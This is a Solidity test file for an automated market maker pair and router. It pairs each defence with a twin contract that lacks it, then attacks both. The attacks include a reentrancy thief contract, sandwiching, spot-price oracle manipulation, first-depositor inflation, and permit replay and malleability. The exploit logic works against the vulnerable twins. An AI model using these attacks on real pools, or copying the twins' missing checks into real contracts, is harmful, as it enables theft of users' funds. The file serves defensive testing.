// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {ReentrancyGuardTransient} from "@openzeppelin/contracts/utils/ReentrancyGuardTransient.sol";
import {SwapFixture} from "../../testing/SwapFixture.sol";
import {HookToken, ITokenHook, TestToken} from "../../testing/Tokens.sol";
import {vm} from "../../testing/Vm.sol";
import {IPairCallee} from "./IPair.sol";
import {PairTwap} from "./PairTwap.sol";
import {SwapRouter} from "./SwapRouter.sol";
import {WattPair} from "./WattPair.sol";
import {PairWithoutBurn} from "./twins/PairWithoutBurn.t.sol";
import {PairWithoutLock} from "./twins/PairWithoutLock.t.sol";
import {PairWithoutNonces} from "./twins/PairWithoutNonces.t.sol";
import {RouterWithoutMinimum} from "./twins/RouterWithoutMinimum.t.sol";
import {SpotPrice} from "./twins/SpotPrice.t.sol";

/// @dev Borrows half of both reserves, makes the pool believe that they are gone, and provides them as its own.
contract LiquidityThief is IPairCallee, ITokenHook {
    function attack(WattPair pair) external {
        (uint256 reserve0, uint256 reserve1,) = pair.getReserves();
        pair.swap(reserve0 / 2, reserve1 / 2, address(this), hex"01");
    }

    function uniswapV2Call(address, uint256 amount0, uint256 amount1, bytes calldata) external {
        _provideWhatIsOwed(WattPair(msg.sender), amount0, amount1);
    }

    /// @dev The same from the hook of a token, which is paid last.
    function attackThroughHook(WattPair pair) external {
        HookToken(pair.token1()).setHook(true);
        (uint256 reserve0, uint256 reserve1,) = pair.getReserves();
        pair.swap(reserve0 / 2, reserve1 / 2, address(this), "");
    }

    function onTokens(address from, address, uint256 amount) external {
        HookToken(msg.sender).setHook(false);
        _provideWhatIsOwed(WattPair(from), amount, amount);
    }

    function _provideWhatIsOwed(WattPair pair, uint256 amount0, uint256 amount1) private {
        pair.sync();
        // With the fee that the last check asks for, of the thief's own.
        TestToken(pair.token0()).transfer(address(pair), amount0 + amount0 / 250);
        TestToken(pair.token1()).transfer(address(pair), amount1 + amount1 / 250);
        pair.mint(address(this));
    }

    /// @dev Turns the stolen shares into tokens.
    function cash(WattPair pair) external {
        pair.transfer(address(pair), pair.balanceOf(address(this)));
        pair.burn(address(this));
    }
}

/// @dev Every attack against the contract, where it gains nothing, and against a twin without the one defence.
contract SwapAttacksTest is SwapFixture {
    address private mallory = vm.addr(0x3A110);

    // ── Sandwich: a known price step, a large honest trade, an attacker before and after it.

    function test_sandwich() external {
        _frontRun(router);
        SwapRouter.ExactIn memory order = _victimsOrder();
        vm.expectPartialRevert(SwapRouter.RouterOutputTooSmall.selector);
        vm.prank(alice);
        router.swapExactIn(order);
        assertLt(_backRun(), 100_000e18, "the attacker paid fees for nothing");
    }

    function test_twin_sandwich() external {
        SwapRouter twin = new RouterWithoutMinimum(factory, address(wrapped));
        _frontRun(twin);
        SwapRouter.ExactIn memory order = _victimsOrder();
        vm.prank(alice);
        twin.swapExactIn(order);
        assertGt(_backRun(), 105_000e18, "the attacker took more than 5 % of what it risked");
    }

    function _frontRun(SwapRouter through) private {
        token0.mint(alice, 100_000e18);
        vm.prank(alice);
        token0.approve(address(through), 100_000e18);
        token0.mint(mallory, 100_000e18);
        _sell(pair, token0, 100_000e18, mallory);
    }

    /// @dev 90,661 is the output at the price that the victim saw; half a percent less is its limit.
    function _victimsOrder() private view returns (SwapRouter.ExactIn memory) {
        return SwapRouter.ExactIn(
            _path(address(token0), address(token1)), 100_000e18, 90_200e18, 10_000, alice, block.timestamp, false
        );
    }

    function _backRun() private returns (uint256) {
        return _sell(pair, token1, token1.balanceOf(mallory), mallory);
    }

    // ── A price moved for one block, against a reader of prices.

    function test_oracleManipulation() external {
        PairTwap twap = new PairTwap(factory);
        twap.poke(address(token0), address(token1));
        vm.warp(block.timestamp + 30 minutes);
        _move();
        assertEq(twap.consult(address(token0), address(token1), 1e18), 1e18, "nothing moved in this block");
        vm.warp(block.timestamp + 1);
        // One second at a quarter of the price, in 1801 seconds.
        assertGt(twap.consult(address(token0), address(token1), 1e18), 0.999e18, "and next to nothing in the next");
    }

    function test_twin_oracleManipulation() external {
        SpotPrice twin = new SpotPrice(factory);
        assertEq(twin.consult(address(token0), address(token1), 1e18), 1e18, "before");
        _move();
        assertLt(twin.consult(address(token0), address(token1), 1e18), 0.26e18, "a quarter");
    }

    function _move() private {
        token0.mint(mallory, MILLION);
        _sell(pair, token0, MILLION, mallory);
    }

    // ── Reentrancy through the flash callback, and through a token's hook.

    function test_reentrancyThroughFlashCallback() external {
        LiquidityThief thief = _thief(token1);
        vm.expectRevert(ReentrancyGuardTransient.ReentrancyGuardReentrantCall.selector);
        thief.attack(pair);
    }

    function test_twin_reentrancyThroughFlashCallback() external {
        WattPair twin = new PairWithoutLock(address(token0), address(token1));
        _fill(twin, token0, token1, MILLION, MILLION);
        LiquidityThief thief = _thief(token1);
        thief.attack(twin);
        thief.cash(twin);
        assertGt(token0.balanceOf(address(thief)), MILLION / 100 + MILLION / 3, "more than a third of the pool");
    }

    function test_reentrancyThroughTokenHook() external {
        TestToken hook = _hookToken();
        WattPair hooked = WattPair(factory.createPair(address(token0), address(hook)));
        _fill(hooked, token0, hook, MILLION, MILLION);
        LiquidityThief thief = _thief(hook);
        vm.expectRevert(ReentrancyGuardTransient.ReentrancyGuardReentrantCall.selector);
        thief.attackThroughHook(hooked);
    }

    function test_twin_reentrancyThroughTokenHook() external {
        TestToken hook = _hookToken();
        WattPair twin = new PairWithoutLock(address(token0), address(hook));
        _fill(twin, token0, hook, MILLION, MILLION);
        LiquidityThief thief = _thief(hook);
        thief.attackThroughHook(twin);
        thief.cash(twin);
        assertGt(token0.balanceOf(address(thief)), MILLION / 100 + MILLION / 3, "more than a third of the pool");
    }

    function _thief(TestToken second) private returns (LiquidityThief thief) {
        thief = new LiquidityThief();
        token0.mint(address(thief), MILLION / 100);
        second.mint(address(thief), MILLION / 100);
    }

    /// @dev A token with a hook whose address is above that of {token0}, so that it is paid last.
    function _hookToken() private returns (TestToken) {
        address hook = address(0);
        while (hook < address(token0)) hook = address(new HookToken());
        return TestToken(hook);
    }

    // ── The first depositor makes one share priceless, so that the next deposit rounds to nothing.

    function test_firstDepositor() external {
        TestToken other = new TestToken("OTH", 18);
        WattPair empty = WattPair(factory.createPair(address(token0), address(other)));
        assertLt(_inflate(empty, other, 1001), 1e18, "of 10 nearly all is lost");
    }

    function test_twin_firstDepositor() external {
        TestToken other = new TestToken("OTH", 18);
        (address lower, address higher) = _sorted(address(token0), address(other));
        WattPair twin = new PairWithoutBurn(lower, higher);
        assertGt(_inflate(twin, other, 1), 14e18, "of 10 it makes 14.5: 4.5 are the victim's");
    }

    /// @dev The attacker spends `seed` and 10e18 of both tokens; returns what it gets back of one.
    function _inflate(WattPair pool, TestToken other, uint256 seed) private returns (uint256) {
        _send(pool, other, seed);
        pool.mint(mallory);
        _send(pool, other, 10e18);
        pool.sync();
        // The victim's 19e18 are worth 1.9 of the attacker's only share; the twin rounds that down to one.
        _send(pool, other, 19e18);
        pool.mint(alice);

        uint256 held = pool.balanceOf(mallory);
        vm.prank(mallory);
        pool.transfer(address(pool), held);
        pool.burn(mallory);
        return token0.balanceOf(mallory);
    }

    function _send(WattPair pool, TestToken other, uint256 amount) private {
        token0.mint(address(pool), amount);
        other.mint(address(pool), amount);
    }

    // ── A permit for liquidity, used a second time.

    function test_permitReplay() external {
        _usePermit(pair);
        vm.expectRevert();
        this.replay(pair);
    }

    function test_twin_permitReplay() external {
        WattPair twin = new PairWithoutNonces(address(token0), address(token1));
        _fill(twin, token0, token1, MILLION, MILLION);
        _usePermit(twin);
        this.replay(twin);
        twin.transferFrom(alice, mallory, 1e18);
        assertEq(twin.balanceOf(mallory), 2e18, "spent twice on one signature");
    }

    function test_permitMalleability() external {
        (uint8 v, bytes32 r, bytes32 s) = _permit(pair);
        uint256 order = 0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFEBAAEDCE6AF48A03BBFD25E8CD0364141;
        vm.expectPartialRevert(bytes4(keccak256("ECDSAInvalidSignatureS(bytes32)")));
        pair.permit(alice, address(this), 1e18, block.timestamp, v ^ 7, r, bytes32(order - uint256(s)));
    }

    bytes private _signature;

    function replay(WattPair pool) external {
        (uint8 v, bytes32 r, bytes32 s) = abi.decode(_signature, (uint8, bytes32, bytes32));
        pool.permit(alice, address(this), 1e18, block.timestamp, v, r, s);
    }

    function _usePermit(WattPair pool) private {
        pool.transfer(alice, 2e18);
        (uint8 v, bytes32 r, bytes32 s) = _permit(pool);
        _signature = abi.encode(v, r, s);
        this.replay(pool);
        pool.transferFrom(alice, mallory, 1e18);
    }

    function _permit(WattPair pool) private view returns (uint8 v, bytes32 r, bytes32 s) {
        bytes32 content = keccak256(
            abi.encode(
                keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)"),
                alice,
                address(this),
                1e18,
                pool.nonces(alice),
                block.timestamp
            )
        );
        return vm.sign(0xA11CE, keccak256(abi.encodePacked(hex"1901", pool.DOMAIN_SEPARATOR(), content)));
    }

    function _sorted(address a, address b) private pure returns (address, address) {
        return a < b ? (a, b) : (b, a);
    }
}
